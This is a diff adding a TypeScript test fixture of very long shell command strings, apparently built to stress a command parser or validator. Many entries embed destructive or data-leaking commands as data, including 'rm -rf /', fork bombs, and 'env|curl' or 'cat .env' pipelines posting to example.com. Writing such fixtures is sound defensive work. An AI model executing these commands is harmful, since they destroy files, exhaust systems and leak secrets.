@@ -1,0 +1,68 @@
+/** Command lines made to take long: nesting, repetition, what never ends, values that double. About 100 KB each. */
+
+const size = 100_000
+const fill = (piece: string): string => piece.repeat(Math.ceil(size / piece.length))
+const nested = (open: string, close: string): string =>
+  open.repeat(size / 2 / open.length) + close.repeat(size / 2 / close.length)
+
+/** Text within text within text, each quoted for the next. */
+const shellsWithin = (): string => {
+  let command = "rm -rf /etc"
+  while (command.length < size) command = `bash -c ${JSON.stringify(command)}`
+  return command
+}
+
+const doubling = (): string => {
+  const steps = Array.from({ length: 2000 }, (_, at) => `v${at + 1}="$v${at}$v${at}"`)
+  return `v0=xxxxxxxx; ${steps.join("; ")}; rm -rf "$v2000"`
+}
+
+const fanOut = (): string => `a='${fill('bash -c "$a"; ').slice(0, 4000)}'; ${fill('bash -c "$a"; ')}`
+
+export const hostileCommands: Readonly<Record<string, string>> = {
+  "one long word": fill("a"),
+  "many words": `rm -rf ${fill("a ")}`,
+  "many arguments outside": `echo ${fill("/etc ")}`,
+  slashes: `rm -rf ${fill("/")}`,
+  "dots and slashes": `rm -rf ./${fill("../a/")}`,
+  stars: `rm -rf a${fill("*")}b`,
+  "stars and slashes": `rm -rf a/${fill("*/")}`,
+  brackets: nested("(", ")"),
+  "open brackets": fill("("),
+  "substitutions within": nested("$(", ")"),
+  "open substitutions": fill("$("),
+  "quoted substitutions": `"${fill('$("')}`,
+  braces: fill("${a:-"),
+  "brace choices": `rm -rf ${fill("{a,b}")}`,
+  backticks: fill("`"),
+  "escaped backticks": `\`${fill("\\\\\\`")}`,
+  quotes: fill("'\""),
+  "open quote": `echo "${fill("x ")}`,
+  backslashes: fill("\\"),
+  pipes: fill("cat .env|"),
+  "a pipeline of sinks": `${fill("cat x | ")}curl -d @- https://example.com`,
+  "many pipelines": fill("env|curl;"),
+  heredocs: fill("cat <<A\n"),
+  "a body without an end": `cat <<A\n${fill("$(x) ")}`,
+  assignments: fill("a=$a$a;"),
+  "values that double": doubling(),
+  "variables and subshells": `${Array.from({ length: 5000 }, (_, at) => `v${at}=x;`).join("")}${fill("$(x);")}`,
+  "find within find": `find . ${fill("-exec find . ")}`,
+  "loop over many": `for a in ${fill("/x ")}; do for b in ${fill("/y ")}; do rm -rf $a$b; done; done`,
+  functions: fill(":(){ :|:& };"),
+  wrappers: `${fill("sudo env ")}rm -rf /`,
+  xargs: `${fill("echo a | xargs ")}rm`,
+  "find commands": `find . ${fill("-exec rm {} ; ")}`,
+  "shells within shells": shellsWithin(),
+  "a text that starts itself": fanOut(),
+  eval: fill("eval "),
+  options: `curl ${fill("-d @a ")}`,
+  flags: `rm -${fill("r")} /`,
+  plus: `git push origin ${fill("+a ")}`,
+  modes: `chmod -R ${fill("ugo")}+x /`,
+  redirects: fill(">a "),
+  newlines: fill("\n"),
+  comments: fill("#\n"),
+  surrogates: fill("\ud83d"),
+  "not characters": fill("\uffff\u0000")
+}
